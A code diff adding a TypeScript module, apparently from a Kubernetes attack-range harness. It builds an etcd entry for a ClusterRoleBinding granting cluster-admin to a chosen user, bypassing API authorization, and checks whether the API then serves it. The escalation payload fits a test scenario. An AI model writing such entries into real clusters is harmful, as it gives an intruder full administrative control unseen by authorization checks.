@@ -1,0 +1,28 @@
+/** A right that an attacker grants itself where no authorizer looks: straight in the store. */
+import type { Operator } from '../cluster/operator.ts'
+import type { Staged } from './scenario.ts'
+
+/** kube-apiserver serves an object that lies in etcd as JSON (recorded), whoever wrote it. */
+export function clusterAdminBinding(mark: string): { key: string; value: string } {
+  const name = bindingName(mark)
+  const binding = {
+    apiVersion: 'rbac.authorization.k8s.io/v1',
+    kind: 'ClusterRoleBinding',
+    metadata: { name, uid: '00000000-0000-4000-8000-000000000000', creationTimestamp: '2026-01-01T00:00:00Z' },
+    subjects: [{ kind: 'User', apiGroup: 'rbac.authorization.k8s.io', name: mark }],
+    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
+  }
+  return { key: `/registry/clusterrolebindings/${name}`, value: JSON.stringify(binding) }
+}
+
+/** Whether the API serves the binding as an administrator sees it. */
+export async function isBound(operator: Operator, _staged: Staged, mark: string): Promise<boolean> {
+  const path = `/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/${bindingName(mark)}`
+  const binding = (await operator.find(path)) as { subjects?: { name?: string }[] } | undefined
+  return binding?.subjects?.some(({ name }) => name === mark) ?? false
+}
+
+/** Object names are lower case; the mark itself stands in the subject. */
+function bindingName(mark: string): string {
+  return `range-${Buffer.from(mark).toString('hex').slice(0, 40)}`
+}
